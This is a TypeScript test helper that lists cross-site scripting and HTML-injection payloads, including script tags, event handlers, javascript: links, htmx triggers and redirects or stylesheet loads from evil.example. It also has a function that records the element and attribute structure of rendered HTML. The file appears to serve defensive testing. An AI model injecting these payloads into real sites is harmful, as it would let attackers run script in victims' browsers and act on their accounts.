/** Texts with which an attacker tries to make another person's browser do something. */
export const PAYLOADS: readonly string[] = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `' autofocus onfocus=alert(1) x='`,
  `</textarea><script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `</li></ol><form action=//evil>`,
  `<a href="javascript:alert(1)">x</a>`,
  `javascript:alert(1)`,
  `https://x/"onmouseover="alert(1)`,
  `https://x/'><script>alert(1)</script>`,
  `https://x/<script>alert(1)</script>`,
  `<div hx-get="/account/delete" hx-trigger="load"></div>`,
  `<div data-hx-on:load="alert(1)"></div>`,
  `<hx-partial hx-target="body">x</hx-partial>`,
  `<template><script>alert(1)</script></template>`,
  `<svg/onload=alert(1)>`,
  `<svg><script href="data:,alert(1)"/></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=//evil.example>`,
  `<style>@import "//evil.example"</style>`,
  `<input name=password form=selection>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `<!--`,
  `]]><script>alert(1)</script>`,
  `\u202e<b>rtl</b>`,
  `\u2028<script>alert(1)</script>`,
  `\ufeff<script>alert(1)</script>`,
  "line one\nid: 9.9.9.9\nevent: ended\ndata: x\n\ndata: <script>",
  "one\r\n\r\nevent: message\r\ndata: <script>alert(1)</script>\r\n\r\n",
  "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %>",
];

/** The names of a page's elements and attributes, as a browser's parser sees them, and the schemes of its links. */
export async function shapeOf(html: string, base: string): Promise<string[]> {
  const seen: string[] = [];
  const rewriter = new HTMLRewriter().on("*", {
    element(element) {
      const names = [...element.attributes].map(([name, value]) =>
        name === "href" ? `${name}=${URL.canParse(value, base) ? new URL(value, base).protocol : "none"}` : name,
      );
      seen.push(`${element.tagName} ${names.join(" ")}`);
    },
  });
  await rewriter.transform(new Response(html)).text();
  return seen;
}
